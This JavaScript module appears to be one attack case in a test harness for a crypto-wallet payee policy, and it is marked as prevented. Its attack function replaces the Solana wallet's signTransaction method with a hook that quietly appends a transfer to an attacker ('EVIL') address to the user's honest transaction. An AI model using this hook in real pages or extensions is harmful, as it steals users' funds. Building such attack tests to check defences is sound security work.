// D01: the page itself pays, and a hook adds a transfer to the attacker to its transaction.
import { reachedWallet } from './logs.mjs';

export default {
  id: 'D01',
  title: 'a transfer added to the honest transaction',
  source: 'Crypto Copilot, 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`, `${a.chains.sol}:${a.sol.address.GOOD}`] }),

  async attack(a) {
    while (!window.app?.solana) await new Promise((resolve) => setTimeout(resolve, 5));
    const { SystemProgram, PublicKey } = window.app.solana;
    const wallet = window.solana;
    const genuine = wallet.signTransaction;
    const hook = function (transaction) {
      transaction.add(
        SystemProgram.transfer({
          fromPubkey: new PublicKey(a.users.sol),
          toPubkey: new PublicKey(a.sol.address.EVIL),
          lamports: 900,
        }),
      );
      return genuine.call(this, transaction);
    };
    wallet.signTransaction = hook;
    // Where the method is pinned, whoever holds the hook calls it itself.
    return hook.call(wallet, window.app.solana.legacyTo(a.sol.address.GOOD)).catch((error) => error.code);
  },

  async action(a, app) {
    await window.solana.connect();
    const signed = await window.solana.signTransaction(app.solana.versionedTo(a.sol.address.GOOD));
    return signed.signatures[0][0];
  },

  stolen: ({ wallet, a }) => reachedWallet(wallet, a.sol.address.EVIL),
  arrived: ({ wallet, a }) => reachedWallet(wallet, a.sol.address.GOOD),
  violation: (a) => ({ surface: 'wallet', role: 'payee', account: a.sol.address.EVIL, grade: 'unknown' }),
  page: { wallet: 'none', libs: ['solana'], wallets: ['solana'] },
};
